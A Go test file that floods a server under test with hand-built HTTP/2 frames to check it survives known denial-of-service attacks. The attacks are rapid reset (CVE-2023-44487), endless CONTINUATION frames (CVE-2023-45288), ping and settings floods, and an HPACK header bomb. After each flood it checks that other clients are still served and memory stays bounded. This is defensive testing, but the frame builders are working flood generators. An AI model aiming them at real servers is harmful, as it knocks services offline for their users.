package attacks

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net/http"
	"testing"
	"time"
)

// Frames of HTTP/2 (RFC 9113 6), as small as these tests need them.
const (
	h2Data, h2Headers, h2Reset, h2Settings, h2Ping, h2GoAway, h2Continuation = 0, 1, 3, 4, 6, 7, 9

	endStream, endHeaders = 1, 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := make([]byte, 9, 9+len(payload))
	b[0], b[1], b[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	b[3], b[4] = kind, flags
	binary.BigEndian.PutUint32(b[5:], stream)
	return append(b, payload...)
}

// getBlock is the header block of GET /sign-in (RFC 7541 6).
func getBlock(host string) []byte {
	b := []byte{0x82, 0x87} // :method GET, :scheme https
	b = append(b, 0x04, byte(len("/sign-in")))
	b = append(b, "/sign-in"...)
	b = append(b, 0x01, byte(len(host)))
	return append(b, host...)
}

// open2 begins HTTP/2 and reads away what comes.
func (h *hub) open2() (*tls.Conn, <-chan struct{}) {
	h.t.Helper()
	c := h.dial("h2")
	_, err := io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+string(frame(h2Settings, 0, 0, nil)))
	must(h.t, err)
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		_, _ = io.Copy(io.Discard, c) // until it ends, however
	}()
	return c, gone
}

// What is known to bring servers of HTTP/2 down: the connection is ended, or it is
// borne; others are served meanwhile, and memory stays.
func TestFloodsOfHTTP2(t *testing.T) {
	t.Parallel()
	h := newHub(t, quietPartner, "quiet")
	b := h.browser()
	b.want(b.get("/sign-in"), http.StatusOK, "Sign in")
	before, _ := h.memory()
	block := getBlock(h.host())
	big := make([]byte, 16<<10)
	// A header of the dynamic table's size, then said again and again in one byte.
	bomb := append(append([]byte{0x82, 0x87, 0x84, 0x40, 0x01, 'x', 0x7f, 0x81, 0x1e}, make([]byte, 4000)...), repeat(0xbe, 16000-4100)...)
	for _, f := range []struct {
		name string
		ends bool // the connection must end
		next func(i int) []byte
		most int
	}{
		{"rapid reset (CVE-2023-44487)", false, func(i int) []byte {
			id := uint32(2*i + 1)
			return append(frame(h2Headers, endStream|endHeaders, id, block), frame(h2Reset, 0, id, []byte{0, 0, 0, 8})...)
		}, 20_000},
		{"CONTINUATION without end (CVE-2023-45288)", true, func(i int) []byte {
			if i == 0 {
				return frame(h2Headers, endStream, 1, block)
			}
			return frame(h2Continuation, 0, 1, big)
		}, 4000},
		{"empty CONTINUATIONs", false, func(i int) []byte {
			if i == 0 {
				return frame(h2Headers, endStream, 1, block)
			}
			return frame(h2Continuation, 0, 1, nil)
		}, 200_000},
		{"pings", false, func(int) []byte { return frame(h2Ping, 0, 0, make([]byte, 8)) }, 100_000},
		{"settings", false, func(int) []byte { return frame(h2Settings, 0, 0, []byte{0, 4, 0, 0, 0xff, 0xff}) }, 100_000},
		{"a header block that grows", false, func(i int) []byte { return frame(h2Headers, endStream|endHeaders, uint32(2*i+1), bomb) }, 500},
		{"a stream of the past", false, func(int) []byte { return frame(h2Headers, endStream|endHeaders, 1, block) }, 1000},
		{"an even stream", true, func(int) []byte { return frame(h2Headers, endStream|endHeaders, 2, block) }, 1000},
	} {
		c, gone := h.open2()
		ended := false
		must(t, c.SetWriteDeadline(time.Now().Add(4*time.Second)))
		batch := []byte{}
		for i := 0; i < f.most && !ended; i++ {
			if batch = append(batch, f.next(i)...); len(batch) < 32<<10 && i < f.most-1 {
				continue
			}
			_, err := c.Write(batch)
			ended, batch = err != nil, batch[:0]
		}
		if f.ends && !ended {
			select {
			case <-gone:
			case <-time.After(3 * time.Second):
				t.Errorf("%s: the connection is still open", f.name)
			}
		}
		other := h.browser()
		at := time.Now()
		other.want(other.get("/sign-in"), http.StatusOK, "Sign in")
		now, peak := h.memory()
		t.Logf("%s: ended %v, the next one was served in %v, %d MiB now, %d at most", f.name, ended, time.Since(at).Round(time.Millisecond), now, peak)
		_ = c.Close() // may be closed already
		<-gone
	}
	if _, peak := h.memory(); peak > before+128 {
		t.Errorf("the hub held %d MiB before and %d at most", before, peak)
	}
}

func repeat(b byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}
